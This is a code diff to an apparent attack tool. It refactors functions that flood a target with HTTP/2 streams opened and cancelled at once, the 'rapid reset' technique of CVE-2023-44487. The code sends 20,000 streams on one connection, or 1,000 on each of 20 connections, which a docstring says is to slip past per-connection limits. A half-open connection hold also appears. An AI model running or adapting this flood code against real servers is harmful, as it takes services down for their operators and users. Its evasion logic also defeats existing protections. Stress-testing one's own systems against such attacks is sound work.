@@ -54,28 +54,21 @@ def half_open(target: str, message: bytes) -> Held:
     return [Connection(target, greetings[n % 3]) for n in range(300)]
 
 
+def _opened_and_reset(number: int) -> bytes:
+    """Return what opens a stream and takes it back at once."""
+    stream = 2 * number + 1
+    opened = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.request_block(http2.CLASSIFY))
+    return opened + http2.frame(http2.RST_STREAM, stream=stream, payload=http2.CANCEL)
+
+
 def rapid_reset(target: str, message: bytes) -> Held:
     """Open 20,000 streams and reset each at once (CVE-2023-44487)."""
-    headers = http2.request_block(http2.CLASSIFY)
-
-    def one(n: int) -> bytes:
-        stream = 2 * n + 1
-        opened = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
-        return opened + http2.frame(http2.RST_STREAM, stream=stream, payload=http2.CANCEL)
-
-    return [flood(Connection(target), _batches(20_000, one))]
+    return [flood(Connection(target), _batches(20_000, _opened_and_reset))]
 
 
 def rapid_reset_from_many(target: str, message: bytes) -> Held:
     """As rapid_reset, 1,000 streams on each of 20 connections: no limit per connection sees it."""
-    headers = http2.request_block(http2.CLASSIFY)
-
-    def one(n: int) -> bytes:
-        stream = 2 * n + 1
-        opened = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
-        return opened + http2.frame(http2.RST_STREAM, stream=stream, payload=http2.CANCEL)
-
-    burst = b"".join(one(n) for n in range(1_000))
+    burst = b"".join(_opened_and_reset(n) for n in range(1_000))
     held = [Connection(target) for _ in range(20)]
     for connection in held:
         connection.send(burst)
